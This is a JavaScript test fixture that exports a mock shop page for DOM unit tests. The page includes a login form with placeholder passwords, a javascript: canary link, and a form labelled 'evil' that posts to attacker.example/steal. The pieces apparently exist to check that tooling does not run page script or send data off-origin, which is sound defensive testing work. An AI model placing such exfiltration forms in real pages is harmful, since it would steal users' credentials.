// The page the DOM unit tests run on: a small shop page with a login form (password with a value),
// links on and off the page's origin, a canary the page's own script would change if anything ran.
export const SHOP = `
<header><h1 id="title" class="brand" data-kind="shop">Fixture Shop</h1><nav><a id="home" href="/app/">Home</a> <a id="partner" href="https://partner.example/deal">Partner</a> <a id="jslink" href="javascript:window.__canary++">JS</a> <a id="blank" href="/app/x" target="_blank">New tab</a> <a id="frag" href="#reviews">Reviews</a></nav></header>
<ul id="list">${Array.from({ length: 250 }, (_, i) => `<li class="item" data-i="${i}">Item ${i}</li>`).join('')}</ul>
<p id="para" style="color: rgb(0, 0, 255)">Hello <b>world</b></p>
<img id="logo" src="/static/logo.png" alt="logo">
<form id="login" action="/app/login" method="post">
  <label id="email-label">Email <input id="email" name="email" type="email" value="me@page.test"></label>
  <label id="pw-label" for="password">Password</label>
  <input id="password" name="password" type="password" value="hunter2" autocomplete="current-password" minlength="6">
  <input id="newpw" name="newpw" type="text" autocomplete="new-password" value="s3cret">
  <input id="csrf" name="csrf" type="hidden" value="tok">
  <input id="file" type="file">
  <textarea id="notes">note text</textarea>
  <select id="size"><option value="s">S</option><option value="m" selected>M</option></select>
  <button id="submit" type="submit">Sign in</button>
</form>
<form id="evil" action="https://attacker.example/steal" method="post"><button id="evil-submit">Go</button><label id="evil-label">Click me <input type="submit" id="evil-inner"></label></form>
<form id="away"><button id="fa" formaction="/app/other">Other</button></form>
<div id="reviews">Reviews</div>
<div id="box" style="width: 120px; height: 30px">box</div>
<script id="inline">window.__canary = 0;</script>
<style id="pagestyle">.brand { color: rgb(1, 2, 3); }</style>
`;
